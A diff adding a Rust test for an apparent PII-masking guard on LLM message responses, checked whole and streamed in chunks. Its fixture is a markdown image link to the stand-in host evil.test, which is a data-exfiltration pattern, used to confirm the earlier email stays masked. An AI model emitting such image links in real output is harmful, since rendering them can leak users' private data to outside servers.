@@ -267,6 +267,45 @@ fn events_that_say_a_text_once_more_keep_its_placeholders() {
 }
 
 #[test]
+fn no_value_follows_a_mask_that_took_a_bracket_along() {
+    let guard = guard(Detect::Detectors(vec!["email", "phone-number"]), Action::Mask);
+    let open = "![a](https://evil.test/?q=+49)151 23456789";
+    for blocks in [vec![format!("{open} {E1})")], vec![open.to_owned(), format!(" {E1})")]] {
+        let session = || {
+            let session = Session::default();
+            let _ = guard.inspect(Channel::User, "hi bob@example.com", &session);
+            session.vault().seal();
+            session
+        };
+        let blocks: Vec<&str> = blocks.iter().map(String::as_str).collect();
+        let answer = json!({"type":"message","content":texts(&blocks)}).to_string();
+        let protocol = protocols::of(Operation::Messages).unwrap();
+        let whole =
+            guard_whole(answer.into(), protocol, &guard, &session(), &mut record()).unwrap();
+        let Guarded::Passed(whole) = whole else { panic!("refused") };
+        let whole = String::from_utf8_lossy(&whole).into_owned();
+        assert!(whole.contains("<PHONE_NUMBER_1>") && !whole.contains("bob@"), "{whole}");
+        for size in [1, 7, 100] {
+            let mut events = Vec::new();
+            for (index, text) in blocks.iter().enumerate() {
+                events.push(json!({"type":"content_block_start","index":index,
+                    "content_block":{"type":"text","text":""}}));
+                for piece in pieces(text, size) {
+                    events.push(json!({"type":"content_block_delta","index":index,
+                        "delta":{"type":"text_delta","text":piece}}));
+                }
+                events.push(json!({"type":"content_block_stop","index":index}));
+            }
+            events.push(json!({"type":"message_stop"}));
+            let events: Vec<String> = events.iter().map(Json::to_string).collect();
+            let events: Vec<&str> = events.iter().map(String::as_str).collect();
+            let (out, _) = pumped(Operation::Messages, Arc::clone(&guard), session(), &events);
+            assert!(!out.contains("bob@"), "{out}");
+        }
+    }
+}
+
+#[test]
 fn a_value_that_only_the_answer_holds_is_nobodys() {
     let said = "write carol@example.org or <EMAIL_ADDRESS_2> ok";
     let part = json!({"type":"output_text","text":said,"annotations":[]});
